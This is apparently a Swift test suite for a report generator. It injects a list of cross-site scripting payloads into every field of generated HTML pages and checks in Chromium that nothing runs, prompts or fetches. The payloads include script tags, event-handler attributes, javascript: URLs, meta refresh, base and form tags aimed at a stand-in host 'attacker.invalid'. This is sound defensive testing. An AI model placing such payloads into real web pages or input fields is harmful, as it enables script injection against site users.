@testable import Evidence
import Foundation
import Ingest
import JSONKit
import Remediation
import Reports
import TestSupport
import Testing
import TransparencyLog

@Suite("A browser that opens the pages runs nothing, asks nothing and fetches nothing")
struct BrowserTests {
  static let payloads =
    AttackTests.payloads + [
      "<script src=\"https://attacker.invalid/x.js\"></script>",
      "<img src=\"https://attacker.invalid/x.png\">",
      "<svg onload=alert(1)>", "\"><svg/onload=alert(1)>",
      "</textarea><iframe src=\"https://attacker.invalid/\">",
      "<link rel=stylesheet href=\"https://attacker.invalid/x.css\">",
      "<meta http-equiv=refresh content=\"0;url=https://attacker.invalid/\">",
      "<base href=\"https://attacker.invalid/\">",
      "</style><style>@import 'https://attacker.invalid/x.css'</style>",
      "<details open ontoggle=alert(1)>",
      "<form action=\"https://attacker.invalid/\"><input autofocus onfocus=alert(1)>",
      "<math><mi xlink:href=\"javascript:alert(1)\">", "<object data=\"javascript:alert(1)\">",
    ]

  /// A population with one text wherever a stranger can write.
  static func population(_ text: String) -> [UInt8] {
    var population = Population(
      scope: PopulationScope(
        asOf: Story.asOf, control: text, account: text, standard: text, requirement: text, operator: text,
        expected: [CoverageCell(account: text, region: text, standard: text)]))
    let episode = PopulationItem.Episode(
      number: 1, openedAt: Story.asOf, closedAt: nil, severity: .high, contradictions: 0, isCarriedIn: false,
      ending: .open)
    population.add(
      PopulationItem(
        key: ViolationKey(partition: text, account: text, region: text, control: text, resources: [text]),
        accountName: text, severity: .high, standards: [text], requirements: [text], findings: [],
        episodes: [episode]))
    population.coverage = [
      .init(
        cell: CoverageCell(account: text + "x", region: text, standard: text), findings: 1, firstEvent: nil,
        lastEvent: nil)
    ]
    population.files = [
      .init(
        run: 1, name: text, sha256: nil, bytes: 0, newRecords: 0, accounts: 0, regions: 0, firstEvent: nil,
        lastEvent: nil, problem: text)
    ]
    let page = PopulationPage(population, PopulationTests.provenance)
    return Reports.evidencePopulation(page: page.content)
  }

  @Test("Every page with every attack in every field", .needs(.chromium))
  func harmless() async throws {
    var pages = try WatchedPages()
    var index = PackageIndex(asOf: Story.asOf, producer: "closeout")
    for payload in Self.payloads {
      let proof = try AttackTests.readable(payload)
      try pages.add(Reports.evidencePage(page: EvidencePage(proof, producer: "closeout")))
      try pages.add(Self.population(payload))
      index.add(EvidencePackage(name: "closeout-0", bytes: [], proof: proof))
    }
    for page in index.finish() { try pages.add(page.html) }
    for (number, seen) in try await pages.open().enumerated() {
      let payload = number / 2 < Self.payloads.count ? Self.payloads[number / 2] : "index"
      #expect(seen.isEmpty, "\(payload.debugDescription): \(seen)")
    }
  }

  @Test("What watches the pages does see an attack that gets out of its place", .needs(.chromium))
  func watching() async throws {
    let attacks = [
      "<script>alert(1)</script>", "<b onmouseover=alert(1)>x</b>", "<a href=\"javascript:alert(1)\">x</a>",
      "<img src=\"https://attacker.invalid/x.png\">", "<svg onload=alert(1)></svg>",
      "<iframe src=\"about:blank\"></iframe>",
    ]
    var pages = try WatchedPages()
    for attack in attacks {
      try pages.add(
        Array("<!DOCTYPE html><html><head><title>x</title></head><body>\(attack)</body></html>".utf8))
    }
    let seen = try await pages.open()
    for (attack, seen) in zip(attacks, seen) {
      #expect(seen.contains { $0 != "a request went out" }, "\(attack)")
    }
    #expect(seen[0].contains("called alert") && seen[1].contains("called alert"))
    #expect(seen[2].contains("link javascript:") && seen[3].contains("a request went out"))
  }
}
